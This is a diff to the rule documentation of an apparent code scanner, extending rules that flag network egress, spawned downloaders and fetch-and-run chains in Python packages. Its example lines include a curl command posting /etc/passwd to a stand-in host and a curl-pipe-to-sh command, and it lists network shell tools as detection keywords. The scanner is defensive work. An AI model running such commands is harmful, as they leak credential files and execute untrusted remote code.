@@ -34,7 +34,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'egress',
     severity: 'info',
     catches:
-      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.',
+      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts, and for a beacon (a request with a body, or a DNS query, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host the file never writes (decoded or assembled) is high.',
     example: 'requests.post("https://collector.example/v1", json=data)',
     falsePositives:
       "HTTP clients and SDKs call the network by design; at call time these stay info or low. A chat bot reached with the user's own token (tqdm's Telegram bar) and a DNS lookup of an IP literal (no query is sent) are not shady.",
@@ -125,7 +125,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'info',
     catches:
-      'subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses (a capability). Low in install, import or startup code.',
+      'subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses (a capability). Low in install, import or startup code. Any process finding whose program name the file never writes (decoded or assembled at run time) is high; setup.py running with the interpreter a .py script the archive does not hold is high (its code cannot be reviewed).',
     example: 'subprocess.run(["git", "describe"])',
     falsePositives: 'Build helpers that run compilers or git.',
   },
@@ -135,7 +135,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download.',
+      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /).",
     example: 'os.system("curl -d @/etc/passwd https://x.example")',
     falsePositives: 'Build scripts that download toolchains.',
   },
@@ -185,7 +185,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, or a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py).',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable file written by urlretrieve or by a function that fetched its bytes, then started as it is.',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
